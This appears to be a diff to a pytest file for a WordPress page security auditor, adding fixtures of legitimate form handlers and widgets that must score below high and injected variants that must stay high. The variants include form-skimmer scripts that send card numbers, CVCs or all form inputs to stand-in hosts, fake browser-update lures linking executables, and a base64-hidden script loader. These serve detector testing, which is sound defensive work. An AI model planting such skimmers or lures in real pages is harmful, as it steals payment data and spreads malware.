@@ -389,6 +389,15 @@ TWINS: list[tuple[str, dict[str, str]]] = [
         "<h2>VLC media player 3.0.21</h2><p>Is your version out of date? Update VLC to the "
         "latest version.</p><a href='https://get.videolan.test/vlc/3.0.21/vlc-3.0.21-win64."
         "exe'>Update VLC</a><p>Works in any browser.</p>")}),
+    ("card fields posted to a gateway the catalogue knows (iyzico)", {"footer": (
+        "<script>document.getElementById('pay').addEventListener('submit',function(e){e."
+        "preventDefault();fetch('https://api.iyzipay.com/payment/auth',{method:'POST',body:"
+        "JSON.stringify({cardNumber:document.getElementById('card-number').value,cvc:document."
+        "getElementById('cvc').value})}).then(function(r){return r.json();});});</script>")}),
+    ("a contact form beaconed to Formspree", {"footer": (
+        "<script>document.getElementById('contact').addEventListener('submit',function(e){e."
+        "preventDefault();navigator.sendBeacon('https://formspree.io/f/xqkrvwpz',new FormData("
+        "e.target));});</script>")}),
     ("analytics pasted after </html>", {"after": (
         "<script async src='https://www.googletagmanager.com/gtag/js?id=G-H4RB0URGZT'>"
         "</script><script defer src='https://static.cloudflareinsights.com/beacon.min.js'>"
@@ -507,3 +516,158 @@ def test_a_lure_naming_the_browser_only_in_its_warning_is_a_fake_update(
         "exe'>Download update</a></div>"))
     report = audit_listed(page, URL)
     assert ("fake-update", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+# Legitimate pages that do what the behaviour kinds look for, each after a vendor's
+# published snippet or a site's own form code (IDs made up): a card form posted by the
+# checkout's code to a regional gateway, a contact form beaconed to a forms backend or a
+# CRM, a widget pasted after `</html>`, a how-to linking a browser installer on a mirror.
+# The unknown host alone is one weak signal: below high, saying what to check.
+LOOKALIKES: list[tuple[str, dict[str, str], str, Severity]] = [
+    ("card form posted to a regional gateway's API by the checkout's code", {"footer": (
+        "<form id='pay'><input id='card-number' name='cardNumber'><input id='cvc' name='cvc'>"
+        "</form><script>document.getElementById('pay').addEventListener('submit',function(e){"
+        "e.preventDefault();var d={cardHolderName:document.getElementById('holder').value,"
+        "cardNumber:document.getElementById('card-number').value,expireMonth:document."
+        "getElementById('exp-m').value,cvc:document.getElementById('cvc').value};fetch('https:"
+        "//sandbox-api.kartpay.example/payment/auth',{method:'POST',headers:{'Content-Type':"
+        "'application/json'},body:JSON.stringify(d)}).then(function(r){return r.json();})."
+        "then(function(j){location.href=j.redirect;});});</script>")}, "form-skimmer", M),
+    ("card form whose action is the gateway's, sent by XHR there", {"footer": (
+        "<form id='paymentForm' action='https://checkout.naira-cardpay.example/pay' "
+        "method='post'><input id='card_number'><input id='cvv'></form><script>var x=new "
+        "XMLHttpRequest();document.getElementById('paymentForm').onsubmit=function(e){e."
+        "preventDefault();x.open('POST','https://checkout.naira-cardpay.example/pay');x.onload="
+        "function(){window.location=JSON.parse(x.responseText).url;};x.send(JSON.stringify({card_number:document.getElementById("
+        "'card_number').value,cvv:document.getElementById('cvv').value}));};</script>")},
+     "form-skimmer", L),
+    ("card form posted to the gateway's API (the form's site), the answer read", {"footer": (
+        "<form id='p24' action='https://secure.zlotypay.example/trnRequest' method='post'><input "
+        "id='cardNumber'><input id='cvv'></form><script>document.getElementById('p24')."
+        "addEventListener('submit',async function(e){e.preventDefault();const res=await fetch("
+        "'https://secure.zlotypay.example/api/v1/card/pay',{method:'POST',body:JSON.stringify({"
+        "number:document.getElementById('cardNumber').value,cvv:document.getElementById('cvv')"
+        ".value})});const j=await res.json();location.href=j.redirectUrl;});</script>")},
+     "form-skimmer", L),
+    ("contact form beaconed to its forms backend, where it posts", {"footer": (
+        "<form id='contact' action='https://forms.formcatch.example/f/xqkrvwpz' method='POST'>"
+        "<input name='email'><textarea name='message'></textarea></form><script>document."
+        "getElementById('contact').addEventListener('submit',function(e){e.preventDefault();"
+        "navigator.sendBeacon('https://forms.formcatch.example/f/xqkrvwpz',new FormData("
+        "e.target));e.target.reset();});</script>")}, "form-skimmer", L),
+    ("newsletter form beaconed to a forms backend", {"footer": (
+        "<form id='nl'><input id='nl-email' name='email'></form><script>document."
+        "getElementById('nl').onsubmit=function(e){e.preventDefault();var data=new FormData("
+        "this);data.append('page',location.pathname);navigator.sendBeacon('https://submit.leadpost.example"
+        "/f/b7e2c4a1-0f3d',data);this.innerHTML='Thanks!';};</script>")}, "form-skimmer", M),
+    ("a lead form sent to the site's Bitrix24 portal", {"footer": (
+        "<form id='b24form'><input name='NAME'><input name='PHONE'></form><script>document."
+        "getElementById('b24form').addEventListener('submit',function(e){e.preventDefault();"
+        "navigator.sendBeacon('https://harbourgazette.bitrix24.ru/rest/1/k3y7abc/crm.lead.add"
+        ".json',new FormData(e.target));});</script>")}, "form-skimmer", M),
+    ("a delegated listener picking the newsletter form, to the site's API elsewhere", {
+        "footer": (
+            "<form class='newsletter'><input name='email'></form><script>document."
+            "addEventListener('submit',function(e){if(!e.target.matches('.newsletter'))return;"
+            "e.preventDefault();navigator.sendBeacon('https://api.harbourgazette-media.example/"
+            "v1/newsletter',new FormData(e.target));});</script>")}, "form-skimmer", M),
+    ("a site's ajax-forms code bound to its own forms by class", {"footer": (
+        "<form class='js-ajax'><input name='email'></form><script>document.querySelectorAll("
+        "'form.js-ajax').forEach(function(f){f.addEventListener('submit',function(e){e."
+        "preventDefault();navigator.sendBeacon('https://api.formrelay.example/submit',new "
+        "FormData(f));});});</script>")}, "form-skimmer", M),
+    ("a delegated change listener that picks its field by name", {"footer": (
+        "<script>document.addEventListener('change',function(e){if(e.target.name!=='email')"
+        "return;navigator.sendBeacon('https://api.formrelay.example/lead',new FormData(e.target"
+        ".form));});</script>")}, "form-skimmer", M),
+    ("UserWay's accessibility widget after </html>", {"after": (
+        '<script src="https://cdn.userway.org/widget.js" data-account="Xk29PqLm7a"></script>')},
+     "appended-script", M),
+    ("Elfsight's platform script after </html>", {"after": (
+        '<script src="https://static.elfsight.com/platform/platform.js" async></script>\n<div '
+        'class="elfsight-app-5b7c9e2a-3d4f-4a1b-9c8d-7e6f5a4b3c2d" data-elfsight-app-lazy>'
+        "</div>")}, "appended-script", M),
+    ("JivoChat's widget after </html>", {"after": (
+        '<script src="//code.jivosite.com/widget/Ab3dEf7Gh9" async></script>')},
+     "appended-script", M),
+    ("CookieYes's banner (on its cdn- domain) after </html>", {"after": (
+        '<script id="cookieyes" type="text/javascript" src="https://cdn-cookieyes.com/'
+        'client_data/5e8f7a6b4c3d2e1f0a9b8c7d/script.js"></script>')}, "appended-script", M),
+    ("a small chat vendor's loader after </html>", {"after": (
+        '<script src="https://app.kiwichat-widget.example/loader.js" data-site="hg-2291" '
+        "async></script>")}, "appended-script", M),
+    ("the site's own CDN after </html>", {"after": (
+        '<script src="https://static.harbourgazette-cdn.example/js/app.min.js?v=3.2.1">'
+        "</script>")}, "appended-script", L),
+    ("a how-to fixing Chrome crashes, linking the installer on a mirror", {"post": (
+        "<h2>How to fix Chrome crashes on Windows 11</h2><p>If Chrome keeps crashing, your "
+        "browser may be out of date. Update Chrome: download <a href='https://files.softmirror"
+        ".test/chrome/ChromeSetup.exe'>ChromeSetup.exe (update Chrome)</a> from our mirror and "
+        "run it.</p>")}, "fake-update", M),
+    ("a Firefox troubleshooting list linking an offline installer", {"post": (
+        "<h2>Firefox not loading pages?</h2><ol><li>Check whether your browser is outdated: an "
+        "older version of Firefox has this error.</li><li><a href='https://dl.fileportal.test/"
+        "mozilla/Firefox_Setup_141.0.exe'>Update Firefox now</a> (offline installer).</li></ol>"
+        )}, "fake-update", M),
+    ("an Edge error explainer linking its setup on a download site", {"post": (
+        "<p>Error STATUS_ACCESS_VIOLATION in Edge usually means an outdated browser. <a href="
+        "'https://mirror.downloadhub.test/edge/MicrosoftEdgeSetup.exe'>Update Edge "
+        "(MicrosoftEdgeSetup.exe)</a></p>")}, "fake-update", M),
+]
+
+
+@pytest.mark.parametrize(("name", "where", "kind", "severity"), LOOKALIKES,
+                         ids=[c[0] for c in LOOKALIKES])
+def test_a_legitimate_lookalike_is_below_high_and_says_what_to_check(
+        name: str, where: dict[str, str], kind: str, severity: Severity,
+        audit_listed: AuditListed) -> None:
+    report = audit_listed(wp_page(**where), URL)
+    assert [f.severity for f in report.findings if f.severity is H] == [], report.findings
+    (found,) = [f for f in report.findings if f.kind == kind]
+    assert found.severity is severity
+    assert "check" in found.message  # a weak signal says what a reviewer should look at
+
+
+# The injected forms' variants: the unknown host plus what marks an injection.
+VARIANTS: list[tuple[str, dict[str, str], str]] = [
+    ("an overlay's update link whose extension is a character reference", {"body_top": (
+        "<div style='position:fixed;inset:0;z-index:99999'><h2>Your browser is out of date</h2>"
+        "<p>Update Chrome to the latest version.</p><a href='https://browser-fix.test/update."
+        "&#101;xe'>Update Chrome</a></div>")}, "fake-update"),
+    ("an in-flow lure whose update is a zip", {"post": (
+        "<p>Your browser is out of date. Update Chrome to view this page.</p><a href='https://"
+        "files.softmirror.test/dl/Chrome.Update.a1b2c3.zip'>Update Chrome</a>")}, "fake-update"),
+    ("an in-flow lure on a host dressed as the browser", {"post": (
+        "<p>Your Firefox is outdated.</p><a href='https://firefox-release-notes.test/setup.exe'>"
+        "Update Firefox</a>")}, "fake-update"),
+    ("a plain beacon hooked on every form of the page", {"footer": (
+        "<script>document.addEventListener('submit',function(e){var d={};e.target."
+        "querySelectorAll('input,select').forEach(function(i){d[i.name]=i.value;});navigator."
+        "sendBeacon('https://sales-reports.test/c',JSON.stringify(d));},true);</script>")},
+     "form-skimmer"),
+    ("card fields posted no-cors to a plain host", {"footer": (
+        "<script>jQuery(function($){$('#place_order').on('click',function(){var d={c:document."
+        "getElementById('card-number').value,v:document.getElementById('cvc').value};fetch("
+        "'https://sales-reports.test/api',{method:'POST',mode:'no-cors',body:JSON.stringify(d)"
+        "});});});</script>")}, "form-skimmer"),
+    ("a script after </html> from another site's WordPress", {"after": (
+        '<script src="https://lakeside-bakery.test/wp-content/plugins/wp-stats/t.js"></script>')},
+     "appended-script"),
+    ("a script after </html> from a bare IP address", {"after": (
+        '<script src="http://203.0.113.77/j.js"></script>')}, "appended-script"),
+    ("a script after </html> on a host spelt like Google's", {"after": (
+        "<script src='https://g00gle-analytics.test/ga.js'></script>")}, "appended-script"),
+    ("a loader after </html> whose address is base64", {"after": (
+        "<script>var s=document.createElement('script');s.src=atob('"
+        + _b64("https://qwzx.test/x.js") + "');document.head.appendChild(s);</script>")},
+     "appended-script"),
+    ("a script after </html> on a host dressed as a CDN", {"after": (
+        '<script src="https://static-cdn-libs.test/min.js"></script>')}, "appended-script"),
+]
+
+
+@pytest.mark.parametrize(("name", "where", "kind"), VARIANTS, ids=[v[0] for v in VARIANTS])
+def test_an_injected_variant_stays_high(name: str, where: dict[str, str], kind: str,
+                                        audit_listed: AuditListed) -> None:
+    report = audit_listed(wp_page(**where), URL)
+    assert (kind, H) in [(f.kind, f.severity) for f in report.findings], report.findings
